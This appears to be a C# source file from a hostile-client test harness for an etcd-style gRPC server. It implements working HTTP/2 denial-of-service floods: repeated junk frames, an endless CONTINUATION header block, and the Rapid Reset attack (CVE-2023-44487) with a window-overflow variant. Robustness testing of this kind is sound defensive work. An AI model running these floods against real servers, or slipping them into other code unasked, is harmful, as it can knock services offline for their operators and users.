using System.Buffers.Binary;

namespace MetaStore.Testing.HostileClient;

/// <summary>Floods of valid but useless frames on one connection.</summary>
public static class FrameFloods
{
    private const int ChunkBytes = 64 << 10;
    private const int StreamMax = 0x7FFF_FFF0;

    /// <summary>Floods that repeat one frame, after opening a call on stream 1.</summary>
    public static IReadOnlyDictionary<string, byte[]> Repeated { get; } = new Dictionary<string, byte[]>
    {
        ["empty-data"] = Frames.Of(Frames.Data, 0, 1),
        ["tiny-data"] = Frames.Of(Frames.Data, 0, 1, 0),
        ["padded-data"] = Frames.Of(Frames.Data, Frames.Padded, 1, [9, .. new byte[9]]),
        ["settings"] = Frames.Of(Frames.Settings, 0, 0, 0, 1, 0, 0, 0x10, 0),
        ["ping"] = Frames.Of(Frames.Ping, 0, 0, new byte[8]),
        ["priority"] = Frames.Of(Frames.Priority, 0, 1, 0, 0, 0, 0, 1),
        ["window-update"] = Frames.Of(Frames.WindowUpdate, 0, 0, 0, 0, 0, 1),
        ["unknown-type"] = Frames.Of(0x7F, 0, 1),
    };

    /// <summary>Repeats a frame.</summary>
    /// <param name="attack">The attack.</param>
    /// <param name="frame">The frame to repeat.</param>
    /// <param name="isReading">Whether responses are read.</param>
    /// <param name="path">Method of the call on stream 1, which stays open.</param>
    public static async Task RepeatAsync(Attack attack, byte[] frame, bool isReading = true, string path = "/etcdserverpb.Watch/Watch")
    {
        using var connection = await RawConnection.TryOpenHttp2Async(attack.Target, isReading);
        if (connection is not null && await connection.TrySendAsync(Frames.Request(1, path), attack.End))
        {
            await attack.FloodAsync(connection, Frames.Repeat(frame, ChunkBytes));
        }
    }

    /// <summary>A header block that never ends.</summary>
    public static async Task ContinuationAsync(Attack attack)
    {
        using var connection = await RawConnection.TryOpenHttp2Async(attack.Target);
        if (connection is not null && await connection.TrySendAsync(Frames.Request(1, "/etcdserverpb.KV/Put", flags: 0), attack.End))
        {
            await attack.FloodAsync(connection, Frames.Repeat(Frames.Of(Frames.Continuation, 0, 1), ChunkBytes));
        }
    }

    /// <summary>Calls that are reset as soon as they are sent (CVE-2023-44487), or that the server is made to reset by a window overflow.</summary>
    /// <returns>The number of calls sent.</returns>
    public static async Task<int> ResetAsync(Attack attack, bool byServer = false)
    {
        using var connection = await RawConnection.TryOpenHttp2Async(attack.Target);
        if (connection is null)
        {
            return 0;
        }

        var kill = byServer ? Frames.Of(Frames.WindowUpdate, 0, 1, 0x7F, 0xFF, 0xFF, 0xFF) : Frames.Of(Frames.Reset, 0, 1, 0, 0, 0, 8);
        byte[] one = [.. Frames.Request(1, "/etcdserverpb.KV/Range"), .. kill];
        var chunk = Frames.Repeat(one, ChunkBytes);
        var headersBytes = one.Length - kill.Length;
        var stream = 1;
        while (stream < StreamMax && !attack.End.IsCancellationRequested)
        {
            for (var at = 0; at < chunk.Length; at += one.Length, stream += 2)
            {
                BinaryPrimitives.WriteInt32BigEndian(chunk.AsSpan(at + 5), stream);
                BinaryPrimitives.WriteInt32BigEndian(chunk.AsSpan(at + headersBytes + 5), stream);
            }

            if (!await connection.TrySendAsync(chunk, attack.End))
            {
                break;
            }
        }

        return stream / 2;
    }
}
